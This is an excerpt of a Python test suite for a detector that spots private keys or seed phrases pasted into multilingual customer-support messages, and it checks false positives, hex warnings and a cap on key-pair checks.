    "Hola, envié el dinero ayer por la tarde a la dirección que me dieron y todavía no ha llegado."
    " ¿Pueden revisar qué pasó con mi pedido, por favor? Muchas gracias por su ayuda y saludos",
    "我的钱昨天已经转到你们的地址了，到现在还没有收到，请帮我查一下是什么问题，谢谢你们的帮助",
    "昨日送金しましたがまだ届いていません。どうなっているのか確認していただけますでしょうか。",
    "No comparto mi clave privada. El hash es 0x" + "ef" * 32,
    "private key of my car is not the order number; the order number is 12345678",
)


@each_row("text", HONEST)
def test_what_is_none_is_not_taken_for_a_secret(text: str) -> None:
    assert not read_here(text).secret


def test_words_of_the_list_that_are_no_phrase_are_no_secret() -> None:
    words = phrase("ten", 10)
    assert not read_here(" ".join(words)).secret
    assert not read_here(" ".join([*words, "zzzz", "yyyy", *words])).secret


def test_hex_that_nobody_names_is_warned_of() -> None:
    """It may be a hash, which is what is looked for; the reader decides."""
    for text in (HEX, f"0x{HEX}", f"my transaction {HEX.upper()}"):
        found = read_here(text)
        assert not found.secret
        assert "private key" in found.warning
    assert read_here("h8Kq2PdT5mXcVbN3wRtY7z").warning == ""


def test_of_very_many_pairs_only_some_are_looked_into(monkeypatch: pytest.MonkeyPatch) -> None:
    """Each costs a millisecond, and a text holds ten thousand."""
    looked: list[bytes] = []

    def is_key_pair(pair: bytes) -> bool:
        looked.append(pair)
        return False

    monkeypatch.setattr(pasted_secret, "_is_key_pair", is_key_pair)
    read_here("\n".join(base58.encode(octets(f"pair {at}", 64)) for at in range(500)))
    assert len(looked) == pasted_secret.MOST_PAIRS
